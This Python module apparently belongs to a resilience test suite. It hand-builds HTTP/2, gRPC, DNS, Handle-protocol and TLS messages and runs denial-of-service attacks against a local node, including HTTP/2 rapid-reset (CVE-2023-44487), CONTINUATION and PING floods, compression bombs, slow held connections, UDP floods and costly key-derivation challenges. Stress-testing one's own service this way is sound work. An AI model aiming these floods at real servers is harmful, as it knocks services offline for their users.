"""What the suite `attacks` sends: messages of each protocol made by hand, and the attacks made of them.

    messages    dns_question · handle_request · grpc_message · frame ─▶ bytes
    Http2       a connection with its windows, which may stay closed or unread
    Attack      one attack in a process of its own: 127.0.0.2 ─▶ node, until a deadline, counting what it sends
    functions   make_calls, pour, hold, converse, … each takes an Attack and goes on until its deadline

Every connect, read and write has a deadline. Nothing leaves the machine.
"""

import contextlib
import gzip
import http.client
import itertools
import os
import select
import socket
import ssl
import struct
import threading
import time

NODE, ATTACKER = "127.0.0.1", "127.0.0.2"
PREFIX, LISTED = "88.118.8", "88.118.9"
# An identifier with a value of 230,000 bytes, and one with a long history.
LARGE, CHANGED = f"{PREFIX}/large", f"{PREFIX}/changed"
STEP_SECONDS_MAX = 5
CALL_SECONDS_MAX = 20
# A socket option of Linux: the port is chosen when it connects, so that ports of other connections can be used again.
IP_BIND_ADDRESS_NO_PORT = 24
ERRORS = (OSError, http.client.HTTPException)

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACKNOWLEDGED, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WINDOW_MAX = 0x7FFF_FFFF
URI, TXT = 256, 16
RESOLUTION, DELETE, CHALLENGE_RESPONSE, SESSION_SETUP = 1, 101, 200, 400
AUTHENTICATION_NEEDED = 402
RESOLUTION_SERVICE = "/idnode.v1.ResolutionService/"
REGISTRATION_SERVICE = "/idnode.v1.RegistrationService/"
CERTIFY, KEEP_ALIVE = 0x4000_0000, 0x0200_0000
GZIP = (("grpc-encoding", "gzip"),)

TLS = ssl.create_default_context()
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])


# ----------- Messages -------------------------------------------------------


def varint(number):
    """A number as protobuf writes it."""
    written = bytearray()
    while number > 0x7F:
        written.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes(written + bytes([number]))


def field(number, content):
    """A field of a protobuf message: a number, or bytes."""
    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    return varint(number << 3 | 2) + varint(len(content)) + content


def grpc_message(content, compressed=False):
    """A message in the frame of gRPC."""
    content = gzip.compress(content, 9) if compressed else content
    return struct.pack(">BI", compressed, len(content)) + content


def text(content):
    """A string of the Handle protocol."""
    return struct.pack(">I", len(content)) + content


def handle_request(operation, body, number, flags=KEEP_ALIVE, session=0):
    """A request of the Handle protocol, version 2.10."""
    expires = int(time.time()) + 3_600
    message = struct.pack(">IIIHBBII", operation, 0, flags, 0xFFFF, 0, 0, expires, len(body)) + body + text(b"")
    return struct.pack(">BBBBIIII", 2, 10, 2, 10, session, number, 0, len(message)) + message


def handle_resolution(identifier, number, flags=KEEP_ALIVE):
    """A request for all values of an identifier."""
    return handle_request(RESOLUTION, text(identifier.encode()) + bytes(8), number, flags)


# The group of 1,024 bits that clients use (RFC 2409 section 6.2), and half of an agreement in it.
PRIME = bytes.fromhex(
    "ffffffffffffffffc90fdaa22168c234c4c6628b80dc1cd129024e088a67cc74020bbea63b139b22514a08798e3404ddef9519b3cd3a431b"
    "302b0a6df25f14374fe1356d6d51c245e485b576625e7ec6f44c42e9a637ed6b0bff5cb6f406b7edee386bfb5a899fa5ae9f24117c4b1fe6"
    "49286651ece65381ffffffffffffffff"
)
HALF = pow(2, 0x1234567890ABCDEF << 512 | 1, int.from_bytes(PRIME, "big")).to_bytes(128, "big")


def session_setup(number):
    """A request for a session by Diffie-Hellman."""
    key = text(b"DH_PUB_KEY") + bytes(2) + text(HALF) + text(b"\0" + PRIME) + text(b"\2")
    return handle_request(SESSION_SETUP, struct.pack(">HI", 4, 600) + text(b"") + bytes(4) + text(key) + bytes(2), number)


def costly_answer(number, session):
    """An answer to a challenge, with a secret key that takes as many rounds of PBKDF2 as a node accepts."""
    answer = b"\x22" + text(bytes(16)) + struct.pack(">II", 100_000, 160) + text(bytes(20))
    body = text(b"HS_SECKEY") + text(f"0.NA/{PREFIX}".encode()) + struct.pack(">I", 301) + text(answer)
    return handle_request(CHALLENGE_RESPONSE, body, number, session=session)


def dns_question(suffix, kind, number):
    """A question about an identifier of 88.118.8, with EDNS and without a cookie."""
    labels = [suffix.lower(), "8", "118", "88", "id", "internal"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    options = b"\0" + struct.pack(">HHIH", 41, 1_232, 0, 0)
    return struct.pack(">HHHHHH", number & 0xFFFF, 0, 1, 0, 0, 1) + name + struct.pack(">HH", kind, 1) + options


def over_tcp(message):
    """A DNS message with its length."""
    return struct.pack(">H", len(message)) + message


def client_hello():
    """The first message of a TLS handshake."""
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        TLS.wrap_bio(received, sent).do_handshake()
    return sent.read()


HELLO = client_hello()


# ----------- Connections ----------------------------------------------------


def connect(port, source, receive_bytes=0):
    """A TCP connection from an address, with a deadline for each step."""
    link = socket.socket()
    try:
        link.settimeout(STEP_SECONDS_MAX)
        link.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if receive_bytes:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        link.bind((source, 0))
        link.connect((NODE, port))
    except OSError:
        link.close()
        raise
    return link


def datagrams(port, source):
    """A UDP socket from an address."""
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(STEP_SECONDS_MAX)
    link.bind((source, 0))
    link.connect((NODE, port))
    return link


def receive(link, count):
    """Exactly so many bytes."""
    received = bytearray()
    while len(received) < count:
        part = link.recv(count - len(received))
        if not part:
            raise ConnectionResetError("closed by the node")
        received += part
    return bytes(received)


def receive_handle(link):
    """A reply of the Handle protocol over TCP, with its envelope."""
    envelope = receive(link, 20)
    return envelope + receive(link, int.from_bytes(envelope[16:], "big"))


def receive_dns(link):
    """A DNS message over TCP."""
    return receive(link, int.from_bytes(receive(link, 2), "big"))


def frame(kind, flags, stream, content=b""):
    """A frame of HTTP/2."""
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def header_block(path, method="POST", fields=()):
    """Headers as literals that no table remembers (RFC 7541 section 6.2.2)."""

    def literal(content):
        content = content.encode()
        return (bytes([len(content)]) if len(content) < 127 else b"\x7f" + varint(len(content) - 127)) + content

    given = [(":method", method), (":scheme", "http"), (":authority", NODE), (":path", path)]
    if method == "POST":
        given += [("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in [*given, *fields])


class Http2:
    """An HTTP/2 connection. `window` is what the node may send of each answer: with 0 no byte of one leaves it."""

    def __init__(self, port, source, window=1 << 20, tls=False, receive_bytes=0):
        self.socket = connect(port, source, receive_bytes)
        self.next, self.initial, self.credit, self.credits = 1, 65_535, 65_535, {}
        self.open, self.data, self.buffer = set(), {}, b""
        try:
            if tls:
                self.socket = TLS.wrap_socket(self.socket)
            settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))
            more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65_535))
            self.socket.sendall(PREFACE + settings + more)
        except OSError:
            self.socket.close()
            raise

    def request(self, path, body=b"", ends=True, fields=(), method="POST"):
        """Begins a call; its stream."""
        stream, self.next = self.next, self.next + 2
        self.credits[stream] = self.initial
        self.open.add(stream)
        flags = END_HEADERS | (END_STREAM if ends and not body else 0)
        self.socket.sendall(frame(HEADERS, flags, stream, header_block(path, method, fields)))
        deadline = time.monotonic() + CALL_SECONDS_MAX
        while body and stream in self.open:
            size = min(len(body), self.credit, self.credits[stream], 16_384)
            if size > 0:
                part, body = body[:size], body[size:]
                self.socket.sendall(frame(DATA, END_STREAM if ends and not body else 0, stream, part))
                self.credit, self.credits[stream] = self.credit - size, self.credits[stream] - size
            elif not self.read(0.2) and time.monotonic() > deadline:
                raise TimeoutError("the window stays closed")
        return stream

    def read(self, seconds):
        """Reads what has come, for so long at most; whether something has."""
        self.socket.settimeout(seconds)
        try:
            received = self.socket.recv(1 << 18)
        except TimeoutError:
            return False
        finally:
            self.socket.settimeout(STEP_SECONDS_MAX)
        if not received:
            raise ConnectionResetError("closed by the node")
        self.buffer += received
        while len(self.buffer) >= 9 and len(self.buffer) >= (end := 9 + int.from_bytes(self.buffer[:3], "big")):
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            content, self.buffer = self.buffer[9:end], self.buffer[end:]
            self.take(kind, flags, stream, content)
        return True

    def take(self, kind, flags, stream, content):
        """Follows a frame of the node."""
        if kind == SETTINGS and not flags & ACKNOWLEDGED:
            for name, value in struct.iter_unpack(">HI", content):
                if name == 4:
                    self.credits = {stream: credit + value - self.initial for stream, credit in self.credits.items()}
                    self.initial = value
            self.socket.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
        elif kind == PING and not flags & ACKNOWLEDGED:
            self.socket.sendall(frame(PING, ACKNOWLEDGED, 0, content))
        elif kind == WINDOW_UPDATE:
            size = int.from_bytes(content, "big")
            if stream == 0:
                self.credit += size
            elif stream in self.credits:
                self.credits[stream] += size
        elif kind == DATA and content:
            self.data.setdefault(stream, bytearray()).extend(content)
            size = struct.pack(">I", len(content))
            self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, size) + frame(WINDOW_UPDATE, 0, stream, size))
        elif kind == GOAWAY:
            raise ConnectionResetError(f"GOAWAY with error {int.from_bytes(content[4:8], 'big')}")
        if kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM:
            self.open.discard(stream)
            self.credits.pop(stream, None)

    def call(self, path, content, fields=()):
        """The messages that answer a call, empty when it failed."""
        stream = self.request(path, grpc_message(content), fields=fields)
        deadline = time.monotonic() + CALL_SECONDS_MAX
        while stream in self.open:
            if not self.read(0.5) and time.monotonic() > deadline:
                raise TimeoutError("the call is not answered")
        return bytes(self.data.pop(stream, b""))


# ----------- Attack ---------------------------------------------------------


class Attack:
    """One attack: the ports it is for, a token to read with, its deadline, its strength, and the count of what it sends."""

    def __init__(self, target, seconds, strength, tally):
        self.target, self.strength, self.tally = target, strength, tally
        self.until = time.monotonic() + seconds

    def goes_on(self):
        """Whether the deadline is ahead."""
        return time.monotonic() < self.until

    def part_of(self, count):
        """A number of connections at this strength."""
        return max(4, int(count * self.strength)) if count > 4 else count

    def sent(self, count=1, asked_bytes=0, answered_bytes=0):
        """Counts what was sent."""
        with self.tally.get_lock():
            for position, more in enumerate((count, asked_bytes, answered_bytes)):
                self.tally[position] += more

    def connect(self, front_end, receive_bytes=0):
        """A connection of the attacker."""
        return connect(self.target.ports[front_end], ATTACKER, receive_bytes)

    def paced(self, rate):
        """A number for each step, so many a second, until the deadline."""
        at = time.monotonic()
        for number in itertools.count(1):
            if not self.goes_on():
                return
            yield number
            at = max(at + 1 / rate, time.monotonic() - 0.1)
            time.sleep(max(0, at - time.monotonic()))

    def in_threads(self, count, step):
        """Runs `step(number)` in so many threads, again and again: the node may refuse, close or be gone."""

        faults = []

        def persist(number):
            while self.goes_on() and not faults:
                try:
                    step(number)
                except ERRORS:
                    time.sleep(0.05)
                except Exception as fault:  # a mistake of this suite; the attack would go on with fewer threads
                    faults.append(fault)

        threads = [threading.Thread(target=persist, args=(number,), daemon=True) for number in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.until - time.monotonic()) + STEP_SECONDS_MAX)
        if faults:
            raise faults[0]


# ----------- HTTP/2 ---------------------------------------------------------


def make_calls(attack, request, connections, calls, front_end="grpc", window=1 << 20, reads=True):
    """Holds so many calls open on each of so many connections, and begins another for each that ended."""
    links, asked = {}, request(attack.target.token)
    while attack.goes_on():
        for number in range(attack.part_of(connections)):
            try:
                link = links.get(number)
                if link is None:
                    port = attack.target.ports[front_end]
                    link = links[number] = Http2(port, ATTACKER, window, receive_bytes=0 if reads else 4_096)
                for _ in range(calls - len(link.open)):
                    link.request(**asked)
                    attack.sent()
                if reads:
                    link.read(0.02)
                    link.data.clear()
            except OSError:
                if number in links:
                    links.pop(number).socket.close()
                time.sleep(0.02)
        time.sleep(0.02)


def empty_messages(path, number, ends, within=None, compressed=True):
    """A call with 4 MiB of empty messages, 4 KiB when compressed."""
    content = field(number, b"") * 2_097_100
    body = grpc_message(field(within, content) if within else content, compressed)
    return lambda _: {"path": path, "body": body, "ends": ends, "fields": GZIP}


def large_answers(_):
    """A batch of questions whose answers together are as large as a message may be."""
    body = grpc_message(field(1, field(1, LARGE.encode())) * 17, compressed=True)
    return {"path": f"{RESOLUTION_SERVICE}ResolveBatch", "body": body, "fields": GZIP}


def long_page(method, subject):
    """A page of a list or of a history, as long as it may be."""
    body = grpc_message(field(1, subject.encode()) + field(2, 10_000))
    path = f"{RESOLUTION_SERVICE}{method}"
    return lambda token: {"path": path, "body": body, "fields": (("authorization", f"Bearer {token}"),)}


def large_record(_):
    """A large record over HTTP."""
    return {"path": f"/api/handles/{LARGE}", "method": "GET"}


def pour(attack, front_end, opening, unit):
    """Sends frames without pause on 8 connections, `unit(round)` in each round; every second one reads nothing."""

    def step(number):
        with contextlib.closing(attack.connect(front_end)) as link:
            link.sendall(PREFACE + frame(SETTINGS, 0, 0) + opening)
            link.setblocking(False)
            for round_number in itertools.count():
                rest = memoryview(unit(round_number))
                while rest and attack.goes_on():
                    readable, writable, _ = select.select([link] if number % 2 else [], [link], [], 1)
                    if readable and not link.recv(1 << 16):
                        return
                    if writable:
                        rest = rest[link.send(rest):]
                if not attack.goes_on():
                    return
                attack.sent(1_000)

    attack.in_threads(8, step)


def thousand_resets(round_number):
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""
    headers = header_block(f"{RESOLUTION_SERVICE}Resolve")
    streams = range(round_number * 2_000 + 1, round_number * 2_000 + 2_001, 2)
    reset = struct.pack(">I", 8)
    return b"".join(frame(HEADERS, END_HEADERS, at, headers) + frame(RST_STREAM, 0, at, reset) for at in streams)


FRAMES = {
    "rapid-reset": (b"", thousand_resets),
    "continuation": (
        frame(HEADERS, END_STREAM, 1, header_block("/")),
        lambda _: frame(CONTINUATION, 0, 1, b"\0\1x\x64" + b"y" * 100) * 1_000,
    ),
    "ping": (b"", lambda _: frame(PING, 0, 0, bytes(8)) * 1_000),
    "settings": (b"", lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_536)) * 1_000),
}


# ----------- Connections and datagrams --------------------------------------


def hold(attack, front_ends, count, beginning, receive_bytes=0):
    """Opens connections that send a beginning and read nothing, and opens others for those that the node closes."""
    count, links, poll, number, filled = attack.part_of(count), {}, select.epoll(), 0, False
    while attack.goes_on():
        for _ in range(min(count - len(links), 50 if filled else 200)):
            number += 1
            with contextlib.suppress(OSError):
                link = attack.connect(front_ends[number % len(front_ends)], receive_bytes)
                links[link.fileno()] = link
                poll.register(link, select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)
                link.sendall(beginning)
                attack.sent()
        filled = filled or number >= count
        for descriptor, _ in poll.poll(0.1 if filled else 0, 1_000):
            links.pop(descriptor).close()
        time.sleep(0.1 if filled else 0)


def flood(attack, front_end, message, number_at, number_bytes):
    """Sends datagrams as fast as the system takes them, each with another number; reads no answer."""
    link, message = datagrams(attack.target.ports[front_end], ATTACKER), bytearray(message)
    numbers = itertools.count(os.getpid())
    while attack.goes_on():
        for number in itertools.islice(numbers, 1_000):
            number %= 1 << 8 * number_bytes
            message[number_at : number_at + number_bytes] = number.to_bytes(number_bytes, "big")
            with contextlib.suppress(OSError):
                link.send(message)
        attack.sent(1_000)


def ask_datagrams(attack, front_end, request, rate, count=1 << 62):
    """Sends requests at a rate, and counts the bytes of what comes back."""
    link = datagrams(attack.target.ports[front_end], ATTACKER)
    link.setblocking(False)
    for number in attack.paced(rate):
        with contextlib.suppress(OSError):
            if number <= count:
                size = link.send(request(number))
                attack.sent(1, size)
            while answer := link.recv(1 << 16):
                attack.sent(0, 0, len(answer))


def converse(attack, front_end, exchange, connections, rate):
    """Calls `exchange(attack, connection, number)` on connections, so often a second in all; it returns what it sent."""
    connections = attack.part_of(connections)

    def step(_):
        with contextlib.closing(attack.connect(front_end)) as link:
            for number in attack.paced(rate / connections):
                attack.sent(exchange(attack, link, number))

    attack.in_threads(connections, step)


def eight_at_a_time(request, receive_answer):
    """An exchange of eight requests and their answers."""

    def exchange(_, link, number):
        link.sendall(b"".join(request(number * 8 + position) for position in range(8)))
        for _ in range(8):
            receive_answer(link)
        return 8

    return exchange


def answer_challenge(_, link, number):
    """Requests a challenge over the Handle protocol, and answers it so that the node has to compute for long."""
    link.sendall(handle_request(DELETE, text(LARGE.encode()), number))
    challenge = receive_handle(link)
    if int.from_bytes(challenge[24:28], "big") == AUTHENTICATION_NEEDED:
        link.sendall(costly_answer(number, int.from_bytes(challenge[4:8], "big")))
        receive_handle(link)
    return 1


def shake_hands(attack, _, number):
    """Begins a TLS handshake, on a connection of its own, up to the point where the node has signed; then leaves."""
    with contextlib.closing(attack.connect("http")) as link:
        link.sendall(HELLO)
        link.recv(1 << 14)
    return 1


def read_http(attack, paths, connections):
    """Readers that get one path after the other, and read every answer."""

    def step(number):
        with contextlib.closing(http.client.HTTPConnection(NODE)) as link:
            link.sock = attack.connect("http")
            for path in itertools.cycle(paths[number % len(paths) :] + paths):
                link.request("GET", path, headers={"Authorization": f"Bearer {attack.target.token}"})
                answer = link.getresponse()
                while answer.read(1 << 16):
                    pass
                attack.sent()

    attack.in_threads(attack.part_of(connections), step)
